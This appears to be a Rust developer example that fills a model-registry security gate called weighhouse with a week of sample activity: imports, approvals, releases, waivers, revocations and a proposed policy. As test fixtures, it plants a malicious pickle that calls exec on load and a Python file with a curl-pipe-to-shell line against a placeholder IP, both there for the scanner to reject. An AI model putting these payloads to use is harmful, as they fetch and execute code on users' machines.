//! A gate with sample data, for looking at its pages: `cargo run -p weighhouse-server --example showcase [-- MODELS]`. Prints its address and
//! the tokens of the people in it, one JSON object, and serves until its input ends. Its clock stands, unless `SHOWCASE_QUICK` is set. `MODELS`
//! further models are written into the database past the log, to measure pages on a full registry.

#![expect(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::print_stdout,
    clippy::indexing_slicing,
    reason = "a tool for developers: what fails must be seen at once"
)]

#[path = "../tests/it/contents.rs"]
#[expect(dead_code, reason = "the tests use the rest")]
mod contents;
#[path = "../tests/it/harness.rs"]
#[expect(dead_code, reason = "the tests use the rest")]
mod harness;
#[expect(dead_code, reason = "the tests use the rest")]
#[path = "../tests/it/sound.rs"]
mod sound;

use std::sync::Arc;
use std::sync::atomic::Ordering;

use serde_json::json;
use sqlx::Executor as _;
use std::sync::atomic::AtomicBool;
use weighhouse_core::{Assessment, Digest, FactValue, Inspection, Thread};
use weighhouse_scan::source::Listing;
use weighhouse_server::{Inspector, Parts, Upstream, serve, work_off};

use harness::{TestGate, clean, parts};

/// Runs `print(1)` when it is loaded.
const HOSTILE: &[u8] = b"cbuiltins\nexec\n(S'print(1)'\ntR.";
const HOUR: i64 = 3_600;

#[tokio::main]
async fn main() {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = format!("http://{}", listener.local_addr().unwrap());
    let gate = TestGate::with(|settings| {
        settings.address.clone_from(&address);
        "production".clone_into(&mut settings.stage);
        // Nobody answers there: what is asked for stays on its way.
        settings.upstream = Some(Upstream::at("http://127.0.0.1:9"));
    })
    .await;
    let tokens = Box::pin(fill(&gate)).await;
    if let Some(models) = std::env::args().nth(1) {
        multiply(&gate, models.parse().expect("a number of models")).await;
    }
    if std::env::var_os("SHOWCASE_QUICK").is_some() {
        // A second in ten milliseconds: who is slowed down for trying too often may go on soon.
        let clock = Arc::clone(&gate.clock);
        tokio::spawn(async move {
            loop {
                tokio::time::sleep(std::time::Duration::from_millis(10)).await;
                clock.fetch_add(1, Ordering::Relaxed);
            }
        });
    }
    println!("{}", json!({ "address": address, "tokens": tokens }));
    let until_input_ends = async {
        let wait = tokio::task::spawn_blocking(|| std::io::copy(&mut std::io::stdin(), &mut std::io::sink()));
        drop(wait.await);
    };
    serve(Arc::clone(&gate.gate), listener, 0, until_input_ends).await.unwrap();
}

/// The real engine, and what a card says of the origin.
struct Descended;

impl Inspector for Descended {
    fn ruleset(&self) -> Digest {
        harness::Real.ruleset()
    }

    fn inspect(&self, listing: Listing, cancelled: &Arc<AtomicBool>) -> Result<(Inspection, String), String> {
        let (mut inspection, report) = harness::Real.inspect(listing, cancelled)?;
        let mut lineage = Assessment::new(Thread::Lineage, "made from `acme/sentence-encoder`".to_owned());
        let bases = ["acme/sentence-encoder", "far-away/multilingual-teacher"].map(str::to_owned);
        lineage.facts.insert("bases", FactValue::Words(bases.into()));
        lineage.facts.insert("kin", FactValue::Words(["openlab/speech-base".to_owned()].into()));
        inspection.assessments.push(lineage);
        Ok((inspection, report))
    }
}

/// A week in the life of a gate.
async fn fill(gate: &TestGate) -> serde_json::Value {
    let ada = gate.person("ada", &["user"]).await;
    let bob = gate.person("bob", &["approver", "user"]).await;
    let eve = gate.person("eve", &["approver", "security"]).await;
    let max = gate.person("max", &["release-manager"]).await;
    let nobody = gate.person("visitor", &[]).await;
    gate.person("build-machine", &["user"]).await;

    // Released, then a canary of the next revision.
    let first = gate.import("ada", "acme/sentence-encoder", "production", &parts(&clean("1"))).await;
    let id = release(gate, "acme/sentence-encoder", &first).await;
    gate.pass(5 * HOUR);
    approve(gate, &id, &bob, "Only tensors and a tokenizer; the licence fits our use.").await;
    gate.pass(HOUR);
    approve(gate, &id, &eve, "").await;
    act(gate, &format!("/api/v1/releases/{id}/promote"), &max, json!({})).await;
    gate.pass(26 * HOUR);
    for token in [&ada, &bob] {
        gate.get("/acme/sentence-encoder/resolve/main/config.json", token).await;
        gate.pass(2 * HOUR);
    }
    let second = gate.import("ada", "acme/sentence-encoder", "production", &parts(&clean("2"))).await;
    let id = release(gate, "acme/sentence-encoder", &second).await;
    approve(gate, &id, &bob, "").await;
    approve(gate, &id, &eve, "Same architecture, new weights.").await;
    act(gate, &format!("/api/v1/releases/{id}/promote"), &max, json!({ "share": 10 })).await;

    // Rejected, with findings; and released for nobody.
    let mut files = clean("3");
    files.push(("pytorch_model.bin", HOSTILE.to_vec()));
    files.push(("modeling_custom.py", b"import os\nos.system('curl http://198.51.100.7/x | sh')\n".to_vec()));
    gate.import("ada", "someone/fast-summarizer", "production", &parts(&files)).await;

    // Less of it than was rejected: a view waits for people.
    let mut files = clean("33");
    files.push(("model-00001-of-00002.bin", HOSTILE.to_vec()));
    files.push(("model-00002-of-00002.bin", [HOSTILE, b" "].concat()));
    let index = json!({ "weight_map": { "a": "model-00001-of-00002.bin", "b": "model-00002-of-00002.bin" } });
    files.push(("pytorch_model.bin.index.json", index.to_string().into_bytes()));
    files.push(("tokenizer_config.json", b"{\n  \"chat_template\": \"{{ messages }}\"\n}\n".to_vec()));
    gate.import("ada", "someone/mixed-weights", "production", &parts(&files)).await;
    gate.pass(HOUR);
    let body = json!({ "model": "someone/mixed-weights", "without": ["pickle", "template"], "reason": "only tensors" });
    act(gate, "/api/v1/views", &ada, body).await;
    work_off(&gate.gate).await.unwrap();

    waive(gate, &eve).await;

    // Waits for a second approval; waits to be released.
    gate.pass(3 * HOUR);
    let waiting = gate.import("ada", "openlab/vision-small", "production", &parts(&clean("4"))).await;
    let id = release(gate, "openlab/vision-small", &waiting).await;
    approve(gate, &id, &eve, "Looked at the files and the card.").await;
    let ready = gate.import("ada", "openlab/speech-base", "production", &parts(&clean("5"))).await;
    let id = release(gate, "openlab/speech-base", &ready).await;
    approve(gate, &id, &bob, "").await;
    approve(gate, &id, &eve, "").await;

    // Suspended: an approval was taken back after it was released.
    let pulled = gate.import("bob", "acme/reranker", "production", &parts(&clean("6"))).await;
    let id = release(gate, "acme/reranker", &pulled).await;
    let zoe = gate.person("zoe", &["approver"]).await;
    approve(gate, &id, &zoe, "").await;
    approve(gate, &id, &eve, "").await;
    act(gate, &format!("/api/v1/releases/{id}/promote"), &max, json!({})).await;
    gate.get("/acme/reranker/resolve/main/config.json", &ada).await;
    gate.pass(20 * HOUR);
    act(gate, &format!("/api/v1/releases/{id}/withdraw"), &zoe, json!({})).await;

    // Withdrawn for good; released for research; asked for and not here yet.
    let bad = gate.import("ada", "acme/old-tagger", "research", &parts(&clean("7"))).await;
    gate.get("/acme/old-tagger/resolve/research/config.json", &ada).await;
    let body = json!({ "model": "acme/old-tagger", "commit": bad, "reason": "trained on data that we had to delete" });
    act(gate, "/api/v1/revoke", &eve, body).await;
    gate.import("bob", "openlab/tiny-chat", "research", &parts(&clean("8"))).await;
    let why = "We compare it with the encoder that we use for search; the demonstration is on Thursday.";
    let body = json!({ "model": "openlab/large-chat", "reason": why });
    act(gate, "/api/v1/requests", &ada, body).await;
    descend_and_propose(gate).await;
    gate.pass(2 * HOUR);
    json!({ "admin": gate.admin, "ada": ada, "bob": bob, "eve": eve, "max": max, "visitor": nobody })
}

/// Waivers: one that ends soon, one that begins later.
async fn waive(gate: &TestGate, eve: &str) {
    for (rule, until, begins) in [("WH-PKL-001", 6, None), ("WH-COD-001", 90, Some(20))] {
        let day = |days: i64| {
            let moment = jiff::Timestamp::from_second(gate.clock.load(Ordering::Relaxed) + days * 24 * HOUR);
            moment.unwrap().strftime("%Y-%m-%d").to_string()
        };
        let body = json!({
            "model": "someone/fast-summarizer", "rules": [rule], "stage": "production", "until": day(until),
            "begins": begins.map(day), "owner": "search team", "reason": "a demonstration without a network",
        });
        act(gate, "/api/v1/waivers", eve, body).await;
    }
}

/// A model made from another one, and policies that somebody proposes.
async fn descend_and_propose(gate: &TestGate) {
    // Made from another one, as its card says.
    let descended = Box::pin(gate.beside_of(|parts| Parts { inspector: Arc::new(Descended), ..parts })).await;
    descended.import("ada", "acme/child-encoder", "research", &parts(&clean("9"))).await;
    let text = "@id(\"house-three-for-production\")\n@message(\"production needs three approvals here\")\n@outcome(\"needs-approval\")\n\
                forbid (principal, action == Weighhouse::Action::\"release\", resource)\n\
                when { principal.name == \"production\" && context.approvals < 3 };\n";
    let body = json!({ "texts": [{ "name": "house.cedar", "text": text }], "reason": "Asked for by the audit of May." });
    act(gate, "/api/v1/policy/proposals", &gate.admin, body).await;
}

async fn release(gate: &TestGate, name: &str, commit: &str) -> String {
    gate.release(name, "production", commit).await["id"].as_str().unwrap().to_owned()
}

async fn approve(gate: &TestGate, id: &str, token: &str, comment: &str) {
    act(gate, &format!("/api/v1/releases/{id}/approve"), token, json!({ "comment": comment })).await;
}

async fn act(gate: &TestGate, path: &str, token: &str, body: serde_json::Value) {
    let answer = gate.post(path, token, body).await;
    assert!(answer.status.is_success(), "{path}: {}", answer.json());
}

/// Many more models, each like one that is there; the log knows nothing of them.
async fn multiply(gate: &TestGate, models: i64) {
    let url = format!("sqlite://{}", gate.data().join("gate.db").display());
    let pool = sqlx::AnyPool::connect(&url).await.unwrap();
    let numbers =
        format!("WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < {models})");
    let source = "(SELECT * FROM models WHERE folded = 'openlab/vision-small') m";
    for statement in [
        format!(
            "{numbers} INSERT INTO models SELECT 'm' || i, kind, 'team' || (i % 97) || '/model-' || i, \
             'team' || (i % 97) || '/model-' || i, created FROM n, {source}"
        ),
        format!(
            "{numbers} INSERT INTO revisions SELECT 'r' || i, 'm' || i, r.commit_id, source, state, fault, digest, listing, files, bytes, \
             r.created, inspection FROM n, {source} JOIN revisions r ON r.model = m.id"
        ),
        format!(
            "{numbers} INSERT INTO releases SELECT 'l' || i, 'm' || i, stage, 'r' || i, CASE i % 10 WHEN 0 THEN 'reviewable' \
             WHEN 1 THEN 'rejected' WHEN 2 THEN 'suspended' WHEN 3 THEN 'approved' ELSE 'released' END, share, requester, decision, \
             decided, served, l.created, changed, moved FROM n, {source} JOIN releases l ON l.model = m.id"
        ),
        format!(
            "{numbers} INSERT INTO requests SELECT 'q' || i, 'm' || i, wanted, stage, person, reason, q.created, 'r' || i, fault \
             FROM n, {source} JOIN requests q ON q.model = m.id"
        ),
        format!(
            "{numbers} INSERT INTO files SELECT 'r' || i, path, size, sha256, git_oid, large FROM n, {source} \
             JOIN revisions r ON r.model = m.id JOIN files f ON f.revision = r.id"
        ),
        "ANALYZE".to_owned(),
    ] {
        pool.execute(sqlx::AssertSqlSafe(statement)).await.unwrap();
    }
    pool.close().await;
}
